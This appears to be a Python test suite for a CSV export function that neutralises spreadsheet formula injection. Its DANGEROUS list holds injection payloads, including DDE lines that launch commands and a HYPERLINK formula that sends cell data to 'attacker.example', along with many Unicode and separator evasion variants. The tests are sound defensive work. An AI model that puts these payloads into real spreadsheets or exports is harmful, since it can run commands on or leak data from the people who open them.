"""CSV that a spreadsheet opens without running anything, and that says what was put in."""

import csv
import io
import unicodedata

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from hub.api.shapes.sheets import harmless, write_sheet

SIGNS = "=+-@＝＋－＠﹦﹢﹣﹫⁼⁺⁻₌"
UNSEEN = "\u200b\ufeff\u2060\u200e\u061c\u00ad\u3000\u2028\ufe0f\u0301"
SEPARATORS = ",;|:\t"

DANGEROUS = [
    "=1+1", "=cmd|' /C calc'!A0", "+1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1",
    "\n=1+1", " =1+1", "\"=1+1", "'=1+1", "\"\"=1", "a,=1+1", "a;=1+1", "a\t=1+1", "a\n=1+1", 'a","=1+1', 'a";"=1+1',
    "=HYPERLINK(\"http://attacker.example/?\"&A1,\"x\")", "＝1＋1", "－1", "＠SUM(1)", "\u00a0=1", "Smith;@x", "\x00=1",
    "=1+1\";=1+1", "'\"=1", "`=1", "%0A-3+3", "\v=1", "x|=1", "a:=1",
    *(f"{unseen}=1" for unseen in UNSEEN), "\ufeff \u200b\u061c＝1", "a;\u200b@x", "﹦1", "﹫A1", "⁺1", "a；=1",
    "，\u2060﹢1",
]  # fmt: skip
"""As they are told in OWASP's article and in lists of attacks on Excel, LibreOffice and Google Sheets."""

texts = st.one_of(
    st.text(), st.lists(st.sampled_from([*SIGNS, *SEPARATORS, *UNSEEN, '"', "'", "`", " ", "\r", "\n", "\u00a0", "a"]),
                        max_size=12).map("".join),
)  # fmt: skip


def cells(sheet: str, separator: str, quoting: int) -> list[str]:
    """As a program reads them that parts cells by this separator, and heeds quotes or does not."""
    if quoting == csv.QUOTE_NONE:
        return [cell for line in sheet.splitlines() for cell in line.split(separator)]
    return [cell for line in csv.reader(io.StringIO(sheet, newline=""), delimiter=separator) for cell in line]


def begins_a_formula(cell: str) -> bool:
    seen = [sign for sign in cell if sign != '"' and unicodedata.category(sign)[0] not in "ZCM"]
    return seen[:1] != [] and unicodedata.normalize("NFKC", seen[0])[0] in "=+-@"


@pytest.mark.parametrize("value", DANGEROUS)
@pytest.mark.parametrize("separator", SEPARATORS)
@pytest.mark.parametrize("quoting", [csv.QUOTE_ALL, csv.QUOTE_NONE])
def test_no_dangerous_value_begins_a_cell_however_cells_are_parted(value: str, separator: str, quoting: int) -> None:
    sheet = write_sheet(["name", "other"], [[value, f"plain {value}"], [f"plain{separator}{value}", "x"]])
    assert not [cell for cell in cells(sheet, separator, quoting) if begins_a_formula(cell)]


@given(st.lists(st.tuples(texts, texts), max_size=4), st.sampled_from(SEPARATORS),
       st.sampled_from([csv.QUOTE_ALL, csv.QUOTE_NONE]))  # fmt: skip
@example([('a"\n=1', "b")], ",", csv.QUOTE_NONE)
def test_no_cell_begins_a_formula_whatever_it_holds(rows: list[tuple[str, str]], separator: str, quoting: int) -> None:
    sheet = write_sheet(["one", "two"], rows)
    assert not [cell for cell in cells(sheet, separator, quoting) if begins_a_formula(cell)]


@given(st.lists(st.lists(texts, min_size=3, max_size=3), max_size=5))
def test_what_is_read_back_is_what_was_written_but_for_apostrophes_and_control_characters(
    rows: list[list[str]],
) -> None:
    sheet = write_sheet(["a", "b", "c"], rows)
    read = list(csv.reader(io.StringIO(sheet.encode().decode(), newline=""), strict=True))
    assert read == [["a", "b", "c"], *[[harmless(cell) for cell in row] for row in rows]]
    assert [[_bare(cell) for cell in row] for row in read[1:]] == [[_bare(cell) for cell in row] for row in rows]


@given(texts)
def test_no_cell_holds_a_tab_an_end_of_a_line_or_any_other_control_character(text: str) -> None:
    assert not [sign for sign in harmless(text) if unicodedata.category(sign) in {"Cc", "Zl", "Zp"}]


def _bare(text: str) -> str:
    return "".join(" " if unicodedata.category(sign) in {"Cc", "Zl", "Zp"} else sign for sign in text.replace("'", ""))


@given(st.text(alphabet="abcdefghij ÄÖéß0123456789_.()/", max_size=30))
def test_what_is_harmless_stays_as_it_is(text: str) -> None:
    assert harmless(text) == text


def test_numbers_yes_no_and_nothing_are_told_plainly() -> None:
    assert write_sheet(["n"], [[5, True, None, "fewer than 5"]]) == '"n"\r\n"5","yes","","fewer than 5"\r\n'


@pytest.mark.parametrize("value", ["=1+1", "a;=1", "\t=1"])
def test_the_check_sees_a_sheet_that_is_not_guarded(value: str) -> None:
    bare = io.StringIO()
    csv.writer(bare, quoting=csv.QUOTE_ALL).writerow([value])
    assert [cell for cell in cells(bare.getvalue(), ";", csv.QUOTE_NONE) if begins_a_formula(cell)]
